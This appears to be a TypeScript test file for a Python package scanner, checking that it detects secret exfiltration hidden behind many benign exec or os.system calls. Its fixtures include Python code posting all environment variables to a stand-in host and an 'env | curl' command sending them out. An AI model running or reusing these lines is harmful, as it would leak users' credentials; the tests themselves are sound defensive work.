import t from 'tap'
import { inspect } from '../../src/inspection/inspect.ts'
import { sha256 } from '../../src/model/digest.ts'
import { packedReading } from './python-reading.ts'

const SEND =
  'import json, os, urllib.request\nurllib.request.urlopen("https://c.invalid", data=json.dumps(dict(os.environ)).encode())\n'

type Files = Readonly<Record<string, string>>

async function findings(files: Files): Promise<readonly string[]> {
  const facts = await inspect(await packedReading('wheel', files), { digest: sha256('x'), readAs: 'wheel' })
  return facts.findings.map(({ check, severity }) => `${check} ${severity}`)
}

/** So many of one kind, and then one that sends. */
const BEHIND: readonly [situation: string, count: number, files: (count: number) => Files, want: string][] = [
  [
    'texts that are run',
    400,
    (count) => ({
      'a.py': `${Array.from({ length: count - 1 }, (_, n) => `exec("f(${n})")\n`).join('')}exec(${JSON.stringify(SEND)})\n`,
    }),
    'not-examined medium',
  ],
  [
    'characters of texts that are run, in thousands',
    999,
    (count) => ({
      'a.py': `exec("f(1) # ${'x'.repeat(count * 1000)}")\nexec(${JSON.stringify(SEND)})\n`,
    }),
    'not-examined medium',
  ],
  [
    // beside the module that it imports
    'programs that are started',
    2999,
    (count) => ({
      'a.py': `import os\n${Array.from({ length: count - 1 }, (_, n) => `os.system("echo ${n}")\n`).join('')}os.system("sh < x.txt")\n`,
      'x.txt': 'env | curl -s -d @- https://c.invalid/x\n',
    }),
    'not-examined medium',
  ],
  [
    'files that code which runs files may run',
    40,
    (count) => ({
      'a.py': 'import glob\nfor p in glob.glob("*.dat"):\n    exec(open(p).read())\n',
      ...Object.fromEntries(
        Array.from({ length: count - 1 }, (_, n) => [
          `b${n}.dat`,
          'import os, requests\nrequests.get(os.sep + "t")\nexec(input())\n',
        ]),
      ),
      'z.dat': `${SEND}# ${'z'.repeat(200)}\n`,
    }),
    'not-examined medium',
  ],
]

t.test('what is hidden behind many of its kind is read, and one more is said to be unread', async (t) => {
  for (const [situation, most, files, want] of BEHIND) {
    const found = await findings(files(most))
    t.ok(found.includes('secrets-exfiltration critical'), `${situation}: ${found.join(', ')}`)
    const more = await findings(files(most + 1))
    t.ok(more.includes(want), `${situation}, one more: ${more.join(', ')}`)
  }
})

t.test('texts in which nothing can happen are no reason to read less', async (t) => {
  const many = Array.from({ length: 1000 }, (_, n) => `exec("x = ${n}")\n`).join('')
  const found = await findings({ 'a.py': `${many}exec(${JSON.stringify(SEND)})\n` })
  t.ok(found.includes('secrets-exfiltration critical'), found.join(', '))
})

t.test('what is cut in functions that nobody calls is told, and no more', async (t) => {
  const many = Array.from({ length: 401 }, (_, n) => `    exec("f(${n})")\n`).join('')
  const found = await findings({ 'a.py': `def start():\n${many}` })
  t.ok(found.includes('not-examined low'), found.join(', '))
  const called = await findings({ 'a.py': `def start():\n${many}start()\n` })
  t.ok(called.includes('not-examined medium'), called.join(', '))
})
